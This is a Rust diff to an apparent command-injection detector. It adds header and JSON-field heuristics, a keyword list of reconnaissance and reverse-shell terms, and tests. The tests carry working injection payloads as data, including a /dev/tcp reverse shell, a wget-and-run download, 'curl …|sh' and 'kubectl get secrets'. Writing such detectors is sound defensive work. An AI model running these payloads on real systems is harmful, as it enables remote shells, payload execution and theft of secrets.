@@ -3,11 +3,14 @@
 
 use super::commands::PATTERNS;
 use super::detector::{Detector, Report};
+use super::pipeline::is_query;
 use super::plain::is_plain;
-use super::prefilter::{Hints, Marks};
+use super::prefilter::{is_agent, Hints, Marks};
+use super::prose::{lists_words, without_code};
 use super::words::Words;
 use super::{Family, Part};
 use crate::decode::{kind, percent, Value};
+use memchr::memmem;
 
 /// Rules that a program's name is most of, and the most that it is worth in a list of plain words.
 const NAMED: [&str; 5] = [
@@ -40,25 +43,116 @@ impl Detector for CommandInjection {
     }
 
     fn judge(&self, value: &Value<'_>, report: &mut Report<'_>) {
-        // Who writes a browser's name writes semicolons and programs' names too.
-        if value.part == Part::Header
-            && value.name.eq_ignore_ascii_case(b"User-Agent")
-            && !value.bytes.contains(&b'{')
-            && !value.bytes.contains(&b'|')
-            && !value.bytes.contains(&b'`')
-        {
+        if is_agent(value) && names_clients(value.bytes) {
             return;
         }
-        if is_plain(value.bytes) {
+        if takes_commands(value) || is_query(value.bytes) {
+            report.doubt(&["command."], LISTED);
+        } else if is_plain(value.bytes) || lists_words(value.bytes) {
             report.doubt(&NAMED, LISTED);
+        } else if is_jquery(value.bytes) {
+            report.doubt(&["command.substitution"], LISTED);
         } else if value.part != Part::Query && is_told(value.bytes) {
             report.doubt(&["command."], TOLD);
         }
-        PATTERNS.judge(value, value.bytes, report);
-        if let Some(plain) = unquote(value.bytes) {
+        let prose = without_code(value.part, value.bytes);
+        let text = prose.as_deref().unwrap_or(value.bytes);
+        PATTERNS.judge(value, text, report);
+        if let Some(plain) = unquote(text) {
             PATTERNS.judge(value, &plain, report);
         }
     }
+}
+
+/// Tells a user agent of the usual kind: who writes one writes semicolons and programs' names too, but
+/// no folders.
+fn names_clients(agent: &[u8]) -> bool {
+    const FOLDERS: [&[u8]; 4] = [b"/tmp/", b"/etc/", b"/dev/", b"/bin/"];
+    memchr::memchr3(b'{', b'|', b'`', agent).is_none()
+        && memmem::find(agent, b"$(").is_none()
+        && !FOLDERS.iter().any(|f| memmem::find(agent, f).is_some())
+}
+
+/// Names under which APIs of builds, containers and schedules take commands.
+const TAKING: [&[u8]; 19] = [
+    b"args",
+    b"command",
+    b"commands",
+    b"cron",
+    b"crontab",
+    b"dockerfile",
+    b"entrypoint",
+    b"healthcheck",
+    b"install",
+    b"lifecycle",
+    b"makefile",
+    b"run",
+    b"runcmd",
+    b"script",
+    b"scripts",
+    b"startup_script",
+    b"tasks",
+    b"user_data",
+    b"userdata",
+];
+
+/// What no build asks for: who and where it is, and a way back in.
+const SPYING: [&[u8]; 14] = [
+    b"whoami",
+    b"passwd",
+    b"/etc/shadow",
+    b"uname -a",
+    b"ifconfig",
+    b"ipconfig",
+    b"netstat",
+    b"/dev/tcp",
+    b"/dev/udp",
+    b"bash -i",
+    b"nc -",
+    b"ncat ",
+    b"nslookup",
+    b"mkfifo",
+];
+
+/// Tells a value that is a command where it is meant to be: JSON under such a name, a script with its
+/// first line, a shell's own path.
+fn takes_commands(value: &Value<'_>) -> bool {
+    let text = value.bytes.trim_ascii();
+    if value.part == Part::Query || matches!(value.part, Part::Path | Part::Header | Part::Cookie) {
+        return false;
+    }
+    let json = value.part == Part::Json;
+    let named = || {
+        let names = value.name.rsplit(|b| *b == b'.').take(2);
+        let known = |name: &[u8]| TAKING.iter().any(|t| name.eq_ignore_ascii_case(t));
+        json && names.into_iter().any(known)
+    };
+    let shell = || {
+        let path = text.strip_prefix(b"/usr").unwrap_or(text);
+        let name = path.strip_prefix(b"/bin/").unwrap_or_default();
+        json && !name.is_empty() && name.iter().all(u8::is_ascii_alphanumeric)
+    };
+    let meant = text.starts_with(b"#!/") || shell() || named();
+    meant && !SPYING.iter().any(|word| memmem::find(text, word).is_some())
+}
+
+/// Tells a script of a page: all that is substituted is one of its own objects.
+fn is_jquery(text: &[u8]) -> bool {
+    let mut substituted = memmem::find_iter(text, b"$(").peekable();
+    substituted.peek().is_some()
+        && substituted.all(|at| {
+            let inside = &text[at + 2..];
+            [
+                &b"document)"[..],
+                b"this)",
+                b"window)",
+                b"'",
+                b"\"",
+                b"function",
+            ]
+            .iter()
+            .any(|own| inside.starts_with(own))
+        })
 }
 
 /// Tells whether words stand before what a shell would read: a command in a sentence may be told
@@ -183,9 +277,67 @@ mod tests {
             ";$a cat x.txt",
             "ti''me sh -c id",
             "if not \"%1\" == \"\" (",
+            "8.8.8.8\nid",
+            "a.example\r\nid\r\n",
+            "x;eval id",
+            "x;/usr/b?n/i?",
+            "x;/*/b*n/i[d]",
+            "x;busybox id",
+            "x;kubectl get secrets",
+            "x;docker ps",
+            "--upload-pack=touch /tmp/x",
+            "x$(id).a.example",
         ] {
             assert!(score(&CommandInjection, text) >= 0.5, "{text}");
         }
+    }
+
+    #[test]
+    fn code_in_prose_hides_nothing_else() {
+        for text in [
+            "Use `ls`, then; cat /etc/hosts",
+            "8.8.8.8 `curl a.example|sh`",
+            "please show`id`",
+        ] {
+            let found = score_at(&CommandInjection, Part::Json, b"host", text);
+            assert!(found >= 0.5, "{text}");
+        }
+    }
+
+    #[test]
+    fn builds_send_commands() {
+        let json = |name: &'static str, text: &str| {
+            score_at(&CommandInjection, Part::Json, name.as_bytes(), text)
+        };
+        for (name, text) in [
+            ("spec.containers.args", "echo hello; sleep 3600"),
+            ("script", "cd ../.. && npm ci && npm run build"),
+            ("scripts.clean", "rm -rf dist"),
+            ("command", "/usr/bin/backup.sh > /var/log/backup.log 2>&1"),
+            ("env.SHELL", "/bin/bash"),
+            (
+                "content",
+                "#!/bin/bash\napt-get update\napt-get install -y nginx\n",
+            ),
+        ] {
+            assert!(json(name, text) < 0.5, "{text}");
+        }
+        for (name, text) in [
+            ("command", "x; whoami"),
+            ("script", "bash -i >& /dev/tcp/192.0.2.1/80 0>&1"),
+            ("host", "8.8.8.8; sleep 3600"),
+            ("note", "/bin/bash -c id"),
+        ] {
+            assert!(json(name, text) >= 0.5, "{text}");
+        }
+    }
+
+    #[test]
+    fn clients_name_no_folders() {
+        let agent = |text: &str| score_at(&CommandInjection, Part::Header, b"User-Agent", text);
+        assert!(agent("x; wget http://a.example/a -O /tmp/a; sh /tmp/a") >= 0.5);
+        assert!(agent("a$(sleep 5)") >= 0.5);
+        assert!(agent("curl/8.5.0; php; node") < 0.5);
     }
 
     #[test]
@@ -226,6 +378,15 @@ mod tests {
             "x{a,b}",
             "alias of a friend",
             "100% curl",
+            "$(document).ready(f)",
+            "index=web status=500 | stats count by host | head 10",
+            "version 2\nid card",
+            "docker; kubectl",
+            "a;/* note */",
+            "text/html;/x?q=1",
+            "=IF(A1>5;\"yes\";\"no\")",
+            "(cat|dog|sh)$",
+            "<p>&copy; 2024</p>",
             "a; b\\n",
         ] {
             assert!(score(&CommandInjection, text) < 0.5, "{text}");
@@ -235,6 +396,8 @@ mod tests {
     #[test]
     fn texts_tell_about_commands() {
         for text in [
+            "fix: run `rm -rf node_modules && npm i` before build",
+            "Use `ps aux | grep node`, then `kill -9 <pid>`.",
             "Run `ls -la` in the folder and `cat` the file; then type exit and find your way home",
             "it said \\n or \\033[0m `id`, and so on for many more words",
         ] {
